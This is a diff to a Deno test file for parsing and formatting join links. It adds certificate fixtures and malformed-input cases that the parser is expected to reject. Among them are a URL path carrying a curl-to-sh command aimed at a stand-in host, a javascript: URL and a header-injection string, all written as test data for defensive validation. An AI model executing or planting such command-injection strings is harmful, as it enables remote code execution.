@@ -27,7 +27,12 @@ const whole: JoinLink = {
   pass,
   expiresAtMs: 1_800_000_000_000,
 };
-const certificate: JoinLink = { ...small, authority: { kind: "certificate", der: new Uint8Array(2048).fill(1) } };
+const der = Uint8Array.of(0x30, 0x82, 0x07, 0xfc, ...new Uint8Array(2044).fill(1));
+const certificate: JoinLink = { ...small, authority: { kind: "certificate", der } };
+const shortCertificate: JoinLink = {
+  ...small,
+  authority: { kind: "certificate", der: Uint8Array.of(0x30, 0x81, 0xc8, ...new Uint8Array(200).fill(1)) },
+};
 
 /** Frozen: links like these are in people's mail. */
 const golden = {
@@ -63,7 +68,7 @@ Deno.test("formatJoinLink() writes the frozen text, and parseJoinLink() reads it
 });
 
 Deno.test("a link survives formatting and parsing, as static:// and as an address of the API", () => {
-  for (const link of [small, whole, certificate]) {
+  for (const link of [small, whole, certificate, shortCertificate]) {
     for (const web of [false, true]) {
       const text = formatJoinLink(link, { web });
       assertEquals(parseJoinLink(text), link);
@@ -137,6 +142,8 @@ const oddities: readonly (readonly [string, (fields: CborMap) => void])[] = [
   ["an API with a credential", (fields) => fields.set(5, "https://a:b@api.example")],
   ["an API written otherwise", (fields) => fields.set(5, "https://api.example/")],
   ["an API that is a script", (fields) => fields.set(5, "javascript:alert(1)")],
+  ["an API whose path is a command", (fields) => fields.set(5, "https://api.example/;curl$IFS'evil.example'|sh")],
+  ["an API whose path has an &", (fields) => fields.set(5, "https://api.example/a&b")],
   ["a long API", (fields) => fields.set(5, `https://${"a".repeat(300)}`)],
   ["a relay that is none", (fields) => fields.set(6, ["https://relay.example/path"])],
   ["several relays in one", (fields) => fields.set(6, ["quic://a,quic://b"])],
@@ -145,6 +152,12 @@ const oddities: readonly (readonly [string, (fields: CborMap) => void])[] = [
   ["a short hash", (fields) => fields.set(7, new Uint8Array(31))],
   ["a certificate that is a hash", (fields) => fields.set(8, new Uint8Array(32))],
   ["a long certificate", (fields) => fields.set(8, new Uint8Array(2049))],
+  ["a certificate that is none", (fields) => fields.set(8, new Uint8Array(400).fill(0x30))],
+  ["a certificate that was cut short", (fields) => fields.set(8, der.subarray(0, 1000))],
+  [
+    "something behind the certificate",
+    (fields) => fields.set(8, Uint8Array.of(0x30, 0x81, 150, ...new Uint8Array(151))),
+  ],
   ["a pass that is mistyped", (fields) => fields.set(9, pass.replace("b", "c"))],
   ["a pass that is a header", (fields) => fields.set(9, `${pass}\r\nx: y`)],
   ["a time before 1970", (fields) => fields.set(10, -1)],
